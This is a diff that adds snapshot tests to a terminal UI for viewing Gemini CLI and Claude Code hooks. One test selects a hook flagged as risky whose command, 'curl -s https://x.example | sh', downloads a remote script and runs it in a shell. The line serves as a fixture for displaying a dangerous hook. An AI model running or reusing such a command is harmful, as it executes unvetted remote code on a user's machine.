@@ -32,6 +32,7 @@ from hookdash.tui.screens.plan import PlanScreen
 from hookdash.tui.widgets.hook_tree import HookTree
 from tests.conftest import Sandbox
 from tests.tui.helpers import demo_app, fill_in_add_form, make_app, rich_setup, select, until
+from tests.tui.test_both_hosts import both_app, both_setup
 
 FIXED_DEMO_ROOT = Path("/tmp/hookdash-snapshot-demo")
 
@@ -82,6 +83,19 @@ def test_main_screen(snap_compare: Any, sandbox: Sandbox) -> None:
 def test_main_screen_80x24(snap_compare: Any, sandbox: Sandbox) -> None:
     rich_setup(sandbox)
     assert snap_compare(make_app(sandbox), terminal_size=(80, 24))
+
+
+def test_both_hosts(snap_compare: Any, sandbox: Sandbox) -> None:
+    """Gemini CLI's and Claude Code's hooks in one tree, a risky Claude hook's details."""
+    both_setup(sandbox)
+    app = both_app(sandbox)
+    run_before = _select("curl -s https://x.example | sh")
+    assert snap_compare(app, terminal_size=(120, 36), run_before=run_before)
+
+
+def test_both_hosts_80x24(snap_compare: Any, sandbox: Sandbox) -> None:
+    both_setup(sandbox)
+    assert snap_compare(both_app(sandbox), terminal_size=(80, 24))
 
 
 def test_details_of_a_duplicate_new_hook(snap_compare: Any, sandbox: Sandbox) -> None:
